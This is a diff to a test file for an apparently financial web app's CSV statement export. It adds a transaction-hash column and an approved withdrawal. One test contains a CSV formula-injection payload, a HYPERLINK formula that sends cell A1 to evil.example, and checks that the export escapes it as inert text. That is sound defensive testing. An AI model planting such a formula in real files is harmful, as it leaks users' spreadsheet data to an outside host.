@@ -35,7 +35,7 @@ function parseStatement(body: string): string[][] {
   expect(body.startsWith('\uFEFF')).toBe(true);
   const lines = body.slice(1).split('\r\n');
   expect(lines.pop()).toBe('');
-  expect(lines.shift()).toBe('Date (UTC),Type,Reference,Amount (USD),Balance after (USD),Reason');
+  expect(lines.shift()).toBe('Date (UTC),Type,Reference,Amount (USD),Balance after (USD),Reason,Transaction');
   return lines.map(splitCsvLine);
 }
 
@@ -119,7 +119,14 @@ async function userWithEveryMovement() {
     address: BTC_ADDRESS,
     password: 'Secret#Pass1',
   });
-  await withdraw(token, 50);
+  const paidId = await withdraw(token, 50);
+  const paid = await t.app.inject({
+    method: 'PUT',
+    url: `/api/admin/approveWithdrawal/${paidId}`,
+    headers: bearer(adminToken),
+    payload: { txHash: 'a1b2c3d4e5f6' },
+  });
+  expect(paid.statusCode).toBe(200);
   const declinedId = await withdraw(token, 30);
   const decline = await t.app.inject({
     method: 'PUT',
@@ -162,13 +169,18 @@ describe('GET /api/user/statement.csv', () => {
     expect(rows.at(-1)?.[4]).toBe('454.05');
     expect(rows[1]?.[2]).toBe(depositId);
     expect(rows[0]?.[5]).toBe('test funding');
+    // The paid withdrawal carries its payout's transaction; the declined one none.
+    expect(rows.filter(([, type]) => type === 'Withdrawal').map((row) => row[6])).toEqual([
+      'a1b2c3d4e5f6',
+      '',
+    ]);
   });
 
   it('writes a reason that would run as a formula as inert text', async () => {
     const { token } = await userWithEveryMovement();
     const response = await statement(token);
     expect(response.body).toContain(
-      `,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for your bonus"")"\r\n`,
+      `,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for your bonus"")",\r\n`,
     );
     const rows = parseStatement(response.body);
     expect(rows[2]?.[5]).toBe(`'${INJECTED_REASON}`);
